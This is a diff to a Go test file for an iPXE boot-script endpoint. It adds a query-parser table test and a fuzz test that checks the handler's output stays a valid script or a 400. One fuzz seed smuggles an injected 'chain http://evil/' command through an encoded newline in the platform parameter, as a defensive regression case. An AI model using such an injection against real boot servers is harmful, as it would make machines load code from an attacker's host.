@@ -373,6 +373,71 @@ func TestIPXEScript_CachedScriptFollowsEveryChangeOfTheNode(t *testing.T) {
 	}
 }
 
+func TestQueryValue_FindsParametersWithoutBuildingAMap(t *testing.T) {
+	tests := []struct {
+		raw, key, want string
+	}{
+		{"mac=52-54-00-12-34-56&platform=efi&arch=x86_64", "mac", "52-54-00-12-34-56"},
+		{"mac=52-54-00-12-34-56&platform=efi&arch=x86_64", "arch", "x86_64"},
+		{"mac=52%3A54%3A00%3A12%3A34%3A56", "mac", "52:54:00:12:34:56"},
+		{"platform=efi&mac=aa&mac=bb", "mac", "aa"}, // the first wins, as url.Values.Get
+		{"macaddr=1&mac=2", "mac", "2"},
+		{"mac", "mac", ""},
+		{"mac=%zz", "mac", "%zz"},
+		{"", "mac", ""},
+		{"a=1+2", "a", "1 2"},
+	}
+	for _, tt := range tests {
+		if got := queryValue(tt.raw, tt.key); got != tt.want {
+			t.Errorf("queryValue(%q, %q) = %q, want %q", tt.raw, tt.key, got, tt.want)
+		}
+	}
+}
+
+// FuzzIPXEQuery feeds raw query strings, as iPXE or anyone else sends them, to the script
+// endpoint: it answers a script or a 400 that names the problem, never anything else.
+func FuzzIPXEQuery(f *testing.F) {
+	for _, seed := range []string{
+		"mac=52-54-00-12-34-56&platform=efi&arch=x86_64",
+		"mac=52:54:00:12:34:57",
+		"mac=525400123458&platform=pcbios&arch=i386",
+		"mac=${mac:hexhyp}&platform=${platform}&arch=${buildarch}",
+		"mac=00-00-00-00-00-00",
+		"mac=%52%54%00%12%34%56",
+		"platform=efi",
+		"mac=52-54-00-12-34-56&platform=efi%0Achain%20http://evil/",
+	} {
+		f.Add(seed)
+	}
+	x := newIPXEHarness(f)
+	x.importAt(node.StateActive)
+	f.Fuzz(func(t *testing.T, rawQuery string) {
+		req := httptest.NewRequest(http.MethodGet, "/boot.ipxe", nil)
+		req.URL.RawQuery = rawQuery
+		rec := httptest.NewRecorder()
+		x.h.ServeHTTP(rec, req)
+		body := rec.Body.String()
+		switch rec.Code {
+		case http.StatusOK:
+			if !strings.HasPrefix(body, "#!ipxe\n") {
+				t.Fatalf("200 without a script for %q:\n%s", rawQuery, body)
+			}
+			for _, line := range strings.Split(strings.TrimSuffix(body, "\n"), "\n") {
+				if !strings.HasPrefix(line, "#!ipxe") && !strings.HasPrefix(line, "echo ") && !strings.HasPrefix(line, "sleep ") &&
+					!strings.HasPrefix(line, "chain ") && line != "exit" && !strings.HasPrefix(line, "sanboot ") && !strings.HasPrefix(line, "iseq ") {
+					t.Fatalf("unexpected script line %q for %q", line, rawQuery)
+				}
+			}
+		case http.StatusBadRequest:
+			if !strings.Contains(body, "mac") {
+				t.Fatalf("400 that does not say what is wrong: %q", body)
+			}
+		default:
+			t.Fatalf("status %d for %q: %s", rec.Code, rawQuery, body)
+		}
+	})
+}
+
 // newIPXEEcho mounts the handler the way web.Server does.
 func newIPXEEcho(h http.Handler) *echo.Echo {
 	e := echo.New()
